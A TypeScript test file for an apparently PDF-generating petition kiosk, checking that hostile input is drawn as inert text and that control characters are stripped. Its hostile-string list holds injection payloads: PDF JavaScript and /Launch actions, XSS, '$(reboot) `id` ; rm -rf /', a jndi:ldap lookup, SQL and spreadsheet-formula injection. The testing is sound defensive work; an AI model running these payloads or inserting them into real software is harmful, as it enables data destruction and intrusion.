/** What infiltrators would type: nothing in a file acts, and what they wrote is read back as they wrote it, or refused by name. */
import { execFileSync, spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import path from 'node:path';

import { expect, test } from 'vitest';

import { orThrow } from '../../../electron/contract/result.ts';
import { isDrawable } from '../../../electron/wording/drawable.ts';
import { active, objectsOf } from '../../support/active-content.ts';
import { petitionPdf } from '../../support/draw-letters.ts';
import { tier } from '../../support/figures.ts';
import { filesIn } from '../../support/letters.ts';
import { opened } from '../../support/opened-pdf.ts';
import { seededBytes } from '../../support/seeded.ts';
import { comparable, readBack } from '../../support/set-text.ts';
import { entryFor, submitEntry } from '../../support/signings.ts';
import { needTool } from '../../support/tools.ts';
import { withKiosk } from '../../support/with-kiosk.ts';

/** Strings that mean something to a PDF, a shell, a page or a bidi algorithm. */
const hostile = [
  ') Tj ET Q q BT /F1 99 Tf (owned',
  '>> endobj 1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj',
  'endstream endobj xref trailer << /Root 1 0 R >> startxref 0 %%EOF',
  '/AA << /O << /S /Launch /F (calc.exe) >> >>',
  '\\) \\( \\000 \\377 \\n (((((',
  '<script>alert(1)</script> &lt;b&gt; ]]> <!--',
  '<</ActualText (no)>> BDC EMC EMC EMC',
  '${jndi:ldap://x/a} $(reboot) `id` ; rm -rf /',
  'https://example.org/ mailto:a@b.c javascript:alert(1) file:///etc/passwd',
  '=HYPERLINK("http://x","y") +1 -1 @SUM(A1)',
  '%PDF-1.7 %âãÏÓ 0000000000 65535 f',
  '\' OR 1=1 -- "; DROP TABLE entry;',
  '/ByteRange [0 9999999999 9999999999 9999999999] /Contents <00>',
  '9999999999 /Type /Sig /Filter /Adobe.PPKLite',
  'DEAD BEEF {0} {name} {from} %s %n %x',
];

/** Controls and overrides: they are dropped when the entry is made, and what is left is what the person meant. */
const invisible = [
  '\u202egnirts\u202c',
  '\u2066abc\u2069',
  'a\u0000b\u0007c',
  '\u200fx\u200e',
  '\ufeffy',
  'z\u00ad',
];

test('hostile text in every field is drawn as text: 0 active objects, and read back', (ctx) => {
  const [qpdf, pdftotext] = [needTool(ctx, 'qpdf'), needTool(ctx, 'pdftotext')];
  return withKiosk({ meeting: true }, async (kiosk) => {
    const { campaign } = kiosk.campaign;
    for (const text of hostile) {
      const name = text.slice(0, 60);
      const answers = { name, place: name, message: text, fields: { branch: name } };
      orThrow(await submitEntry(kiosk.client, campaign, entryFor(campaign, answers)));
    }
    await kiosk.unlock();
    const out = kiosk.folder('letters');
    const merged = path.join(kiosk.folder('merged'), 'all.pdf');
    const made = orThrow(await kiosk.client('letters', { out, merged }));
    expect(made).toMatchObject({ letters: hostile.length * 3, refused: [] });
    const petition = orThrow(await kiosk.client('petition', { layout: 'list' })).out;
    const letters = readdirSync(out).map((file) => path.join(out, file));
    for (const file of [...letters, merged, petition]) {
      expect(objectsOf(qpdf, file), file).not.toMatch(active);
      const { status, stderr } = spawnSync(qpdf, ['--check', file], { encoding: 'utf8' });
      expect([status, stderr], file).toEqual([0, '']);
    }
    const whole = tight(execFileSync(pdftotext, ['-enc', 'UTF-8', merged, '-'], { encoding: 'utf8' }));
    for (const text of hostile) expect(whole).toContain(tight(text));
    const verified = orThrow(await kiosk.client('verify', { files: [...letters, merged, petition] }));
    expect(verified.files.filter(({ result }) => result !== 'valid')).toEqual([]);
  });
}, 60_000);

const tight = (text: string): string => comparable(text).replaceAll(/\s/g, '');

test('the objects of a file that does act are found', (ctx) => {
  const qpdf = needTool(ctx, 'qpdf');
  return withKiosk({}, async (kiosk) => {
    const { pdf } = await petitionPdf([]);
    const file = path.join(kiosk.folder('x'), 'x.pdf');
    const acting = Buffer.from(
      pdf.toString('latin1').replace('/Filter/Adobe.PPKLite', '/AA 1 0 R'.padEnd(21)),
      'latin1',
    );
    const { writeFileSync } = await import('node:fs');
    writeFileSync(file, acting);
    expect(objectsOf(qpdf, file)).toMatch(active);
  });
});

test('overrides and controls are gone from what is sealed, and the rest is as it was', (ctx) => {
  const pdftotext = needTool(ctx, 'pdftotext');
  return withKiosk({ meeting: true }, async (kiosk) => {
    const { campaign } = kiosk.campaign;
    const answers = { name: 'Ann', message: invisible.join(' '), letters: ['protest'] };
    orThrow(await submitEntry(kiosk.client, campaign, entryFor(campaign, answers)));
    await kiosk.unlock();
    const out = kiosk.folder('letters');
    orThrow(await kiosk.client('letters', { out }));
    const [pdf] = Object.values(filesIn(out));
    const read = readBack(pdftotext, pdf!);
    expect(comparable(read)).toContain('gnirts abc abc x y z');
  });
});

test('words of 16 KiB, and anything that a broken laptop could seal, are drawn or refused by name', (ctx) => {
  const qpdf = needTool(ctx, 'qpdf');
  return withKiosk({ meeting: true }, async (kiosk) => {
    const { campaign } = kiosk.campaign;
    const entry = entryFor(campaign, { letters: ['protest'] });
    const seed = Date.now() & 0xff_ffff;
    console.log(`hostile entries, seed ${seed}`);
    const noise = seededBytes(seed);
    const texts = [
      'W'.repeat(16 * 1024),
      'שׁ'.repeat(5000),
      '\n'.repeat(3000),
      `${'('.repeat(4000)}${')'.repeat(4000)}`,
      'กำลังใจ'.repeat(700),
      'ស្ត្រីភ្នំ'.repeat(450),
      'क्'.repeat(2400),
      '👩\u200d'.repeat(2000),
      '🇰'.repeat(3001),
      '가나다라'.repeat(1200),
      `${'「'.repeat(2400)}${'。'.repeat(2400)}`,
      ...Array.from({ length: tier(4, 100) }, () => String.fromCodePoint(...drawnPoints(noise, 300))),
      ...Array.from({ length: 20 }, () => String.fromCodePoint(...points(noise, 60))),
    ];
    for (const message of texts)
      orThrow(
        await submitEntry(kiosk.client, campaign, {
          ...entry,
          message,
          name: message.slice(0, 120).toWellFormed() || 'x',
        }),
      );
    await kiosk.unlock();
    const out = kiosk.folder('letters');
    const { letters, refused } = orThrow(await kiosk.client('letters', { out }));
    expect(refused.filter(({ code }) => code !== 'undrawable')).toEqual([]);
    expect(letters).toBe(readdirSync(out).length);
    expect(letters + refused.length * 2).toBe(texts.length * 2);
    for (const file of readdirSync(out)) {
      const { status, stderr } = spawnSync(qpdf, ['--check', path.join(out, file)], { encoding: 'utf8' });
      expect([status, stderr]).toEqual([0, '']);
    }
  });
}, 60_000);

/** Letters, marks and pictures of scripts with shapes of their own, in an order that no language has. */
function drawnPoints(noise: (length: number) => Uint8Array, count: number): number[] {
  const blocks = [0x900, 0x980, 0xb80, 0xe00, 0x1780, 0x3040, 0x4e00, 0xac00, 0x1f300, 0x600, 0x40, 0xfe00];
  const bytes = Buffer.from(noise(count * 2));
  const pointAt = (i: number): number => blocks[bytes[i]! % blocks.length]! + (bytes[i + 1]! & 0x7f);
  return Array.from({ length: count }, (_, i) => pointAt(i * 2)).filter(isDrawable);
}

/** Any scalar values, mostly of the planes that people type from. */
function points(noise: (length: number) => Uint8Array, count: number): number[] {
  const bytes = Buffer.from(noise(count * 4));
  return Array.from({ length: count }, (_, i) => {
    const point = bytes.readUInt32LE(i * 4) % (i % 4 === 0 ? 0x11_0000 : 0x700);
    return point >= 0xd800 && point <= 0xdfff ? 0x41 : point;
  });
}

test('letters and sheets are black on white: no operator sets a colour', async () => {
  const { pdf } = await petitionPdf([{ name: 'Änne Groß', place: 'Köln' }]);
  const text = opened(pdf);
  const streams = text.match(/(?<=stream\n)[\s\S]*?(?=\nendstream)/g)!;
  const contents = streams
    .filter((stream) => /\bBT\b|\bre\b|\bS\b/.test(stream) && stream.includes('BDC'))
    // what is shown may look like an operator
    .map((stream) => stream.replaceAll(/\((?:\\[\s\S]|[^\\()])*\)/g, ''));
  expect(contents.length).toBeGreaterThan(2);
  for (const content of contents)
    expect(content).not.toMatch(/\b(rg|RG|k|K|sc|SC|scn|SCN|cs|CS|g|G|sh|Do)\s/);
  expect(text).not.toMatch(/\/(DeviceRGB|DeviceCMYK|XObject)/);
});
